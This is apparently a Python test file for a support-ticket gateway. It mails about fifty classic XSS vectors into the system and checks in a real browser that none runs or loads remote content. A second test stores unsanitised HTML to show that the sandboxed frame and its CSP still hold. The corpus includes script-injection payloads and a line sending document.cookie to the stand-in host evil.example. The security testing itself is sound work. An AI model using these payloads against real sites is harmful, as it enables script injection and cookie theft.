"""Customer HTML cannot run or leak: a corpus of classic XSS vectors, each mailed in over SMTP as the HTML
part of a message (and some in the Subject and display name), rendered in the ticket view with every
article's HTML frame shown and remote images allowed (the laxest view). In a real Chromium: no dialog,
no console message from a payload, no page error, and no request to any host but 127.0.0.1 (every
request of the browser context is routed through the Guard). A second test stores HTML that was *not*
sanitised to show the frame's own walls (sandbox + CSP) hold without the ingest sanitiser."""
from __future__ import annotations

import time
from email.message import EmailMessage

from gateway.store.base import ArticleDraft

from ..test_pipeline import send
from .conftest import Ui

E = "http://evil.example"
# Each calls alert / console.log with a marker "XSS<n>" or loads from evil.example: either would be seen.
VECTORS: list[str] = [
    "<script>alert('XSS1')</script>",
    "<img src=x onerror=alert('XSS2')>",
    "<svg onload=alert('XSS3')>",
    "<svg><script>alert('XSS4')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS5')></style></mglyph></table></mtext></math>",
    "<a href=\"javascript:alert('XSS6')\">link6</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS7')\">link7</a>",
    "<a href=\"&#106;avascript:alert('XSS8')\">link8</a>",
    "<iframe src=\"javascript:alert('XSS9')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS10')</script>\"></iframe>",
    "<body onload=alert('XSS11')>body11",
    "<div style=\"background:url(javascript:alert('XSS12'))\">div12</div>",
    "<div style=\"width: expression(alert('XSS13'))\">div13</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS14')\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url={E}/refresh\">",
    f"<base href=\"{E}/\"><a href=\"rel\">rel16</a><img src=\"y.png\">",
    f"<form action=\"{E}/steal\"><input name=p value=17><button>go17</button></form>",
    "<object data=\"data:text/html,<script>alert('XSS18')</script>\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTMTknKTwvc2NyaXB0Pg==\">",
    "<a href=\"data:text/html,<script>alert('XSS20')</script>\">data20</a>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(21)'/>\">",
    f"<link rel=stylesheet href=\"{E}/x.css\">",
    f"<style>@import '{E}/i.css'; body {{ background: url({E}/bg.png) }}</style>style23",
    f"<img src=\"{E}/pixel.png\" width=1 height=1>",
    f"<img srcset=\"{E}/a.png 1x\" src=\"cid:x\">",
    f"<video poster=\"{E}/p.png\"><source src=\"{E}/v.mp4\"></video>",
    "<audio src=x onerror=alert('XSS27')>",
    "<details open ontoggle=alert('XSS28')><summary>d28</summary></details>",
    "<input autofocus onfocus=alert('XSS29')>",
    "<marquee onstart=alert('XSS30')>m30</marquee>",
    "<isindex action=javascript:alert('XSS31') type=image>",
    "<table background=\"javascript:alert('XSS32')\"><tr><td>t32</td></tr></table>",
    "<scr<script>ipt>alert('XSS33')</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS34')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS35')>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert('XSS36')>\">",
    "\"><script>alert('XSS37')</script><p title=\"",
    "<a href=\"vbscript:msgbox('XSS38')\">vb38</a>",
    "<svg><a xlink:href=\"javascript:alert('XSS39')\"><text x=20 y=20>s39</text></a></svg>",
    "<svg><animate onbegin=alert('XSS40') attributeName=x dur=1s>",
    f"<object data=\"{E}/x.swf\"></object>",
    f"<div style=\"behavior:url(x.htc);-moz-binding:url({E}/x.xml#x)\">div42</div>",
    "<img src=x:alert(alt) onerror=eval(src) alt='XSS43'>",
    "<template><script>alert('XSS44')</script></template>",
    "&lt;script&gt;alert('XSS45')&lt;/script&gt;",
    "<a href=\"  javascript:alert('XSS46')\">sp46</a>",
    "<img src=\"x\" onerror=\"&#97;lert('XSS47')\">",
    "<form><button formaction=\"javascript:alert('XSS48')\">b48</button></form>",
    f"<iframe src=\"{E}/frame\"></iframe>",
    "<p style=\"color:red\" onclick=\"alert('XSS50')\" onmouseover=\"console.log('XSS50')\">hover50</p>",
]


def html_mail(n: int, vector: str) -> bytes:
    m = EmailMessage()
    m["From"] = f"\"<img src=x onerror=alert('XSSname{n}')>\" <alice@customer.test>"
    m["To"] = "support@example.test"
    m["Subject"] = f"Vector {n} <script>alert('XSSsubj{n}')</script>"
    m["Message-ID"] = f"<xss{n}@customer.test>"
    m["Date"] = "Sun, 22 Nov 2026 10:00:00 +0000"
    m.set_content(f"Vector {n} as text: {vector}\n")
    m.add_alternative(f"<html><body><p>Vector {n} marker</p>{vector}<p>after {n}</p></body></html>", subtype="html")
    return bytes(m)


async def test_xss_corpus_runs_nothing_and_loads_nothing_remote(ui: Ui) -> None:
    numbers = []
    for n, vector in enumerate(VECTORS, 1):
        e = await ui.api.gw.wait_done(await send(ui.api.gw.port, html_mail(n, vector)))
        assert e.state == "ticket_created", (n, e.reason)
        numbers.append((n, (await ui.store.ticket_get(str(e.ticket_id)))["number"]))
    assert len(numbers) >= 40
    await ui.user("agent@example.test", "agent")
    page = await ui.page()
    await ui.signin(page, "agent@example.test")
    await page.goto("/ui/tickets?view=all")
    assert await page.get_by_text("<script>alert('XSSsubj1')</script>", exact=False).count() >= 1  # shown as text
    framed = 0
    for n, number in numbers:
        await page.goto(f"/ui/tickets/{number}?html=all&images=1")
        await page.get_by_text(f"Vector {n} as text").first.wait_for()
        frame = page.frame_locator("iframe.mail")
        if await page.locator("iframe.mail").count():
            await frame.get_by_text(f"Vector {n} marker").wait_for()   # the HTML did render, in the frame
            framed += 1
            assert await page.locator("iframe.mail").get_attribute("sandbox") == ""
        await page.mouse.move(300, 300)
        await page.keyboard.press("Tab")
    assert framed == len(numbers)
    g = ui.guard
    assert not g.dialogs, g.dialogs
    assert not [c for c in g.console if "XSS" in c or "alert" in c], g.console
    assert not g.errors, g.errors
    assert not g.blocked, g.blocked
    assert not g.attempted, g.attempted       # not even a CSP-stopped attempt: nothing remote survived ingest
    assert all(u.startswith(ui.base) for u in g.requests), [u for u in g.requests if not u.startswith(ui.base)]


async def test_frame_walls_hold_without_the_sanitiser(ui: Ui) -> None:
    """HTML stored as it came (as if the ingest sanitiser had missed everything): the sandbox and the
    frame's CSP alone stop scripts, handlers and remote loads."""
    e = await ui.api.gw.wait_done(await send(ui.api.gw.port, html_mail(0, "<b>plain</b>")))
    t = await ui.store.ticket_get(str(e.ticket_id))
    raw = ("<p>Unsanitised marker</p><script>alert('XSSraw1')</script><img src=x onerror=alert('XSSraw2')>"
           f"<img src=\"{E}/pixel.png\"><link rel=stylesheet href=\"{E}/x.css\"><iframe src=\"{E}/f\"></iframe>"
           "<script>fetch('http://evil.example/leak?c=' + document.cookie)</script>"
           f"<meta http-equiv=refresh content=\"0;url={E}/r\"><form action=\"{E}/s\"><input autofocus></form>"
           f"<object data=\"{E}/o\"></object><svg onload=alert('XSSraw3')></svg>")
    draft = ArticleDraft(from_addr="alice@customer.test", from_name="Alice", subject="raw", body_text="raw text",
                         body_html=raw, message_id="raw@customer.test")
    aid = await ui.store.ticket_add_article(t["id"], draft, "alice@customer.test", time.time())
    await ui.user("agent@example.test", "agent")
    page = await ui.page()
    await ui.signin(page, "agent@example.test")
    r = await page.goto(f"/ui/tickets/{t['number']}?html={aid}")
    assert r.ok
    await page.frame_locator("iframe.mail").get_by_text("Unsanitised marker").wait_for()
    await page.wait_for_timeout(500)   # time for a refresh, a script or a load to happen if it could
    g = ui.guard
    assert not g.dialogs and not g.errors, (g.dialogs, g.errors)
    assert not g.blocked, g.blocked          # nothing reached the network: the CSP stopped them first
    assert f"{E}/pixel.png" in g.attempted   # (the unsanitised HTML did ask for it)
    csp_stops = [c for c in g.console if "violates the following Content Security Policy" in c]
    assert any("pixel.png" in c for c in csp_stops) and any("x.css" in c for c in csp_stops), g.console
    assert any("sandboxed" in c and "allow-scripts" in c for c in g.console), g.console
    assert page.url.endswith(f"?html={aid}")  # no refresh navigated anything
    # the frame's own response, opened as a page of its own (a link from elsewhere): refused
    src = await page.locator("iframe.mail").get_attribute("src")
    direct = await page.goto(src)
    assert direct.status == 403 and await page.get_by_text("shown only inside its ticket page").count() == 1
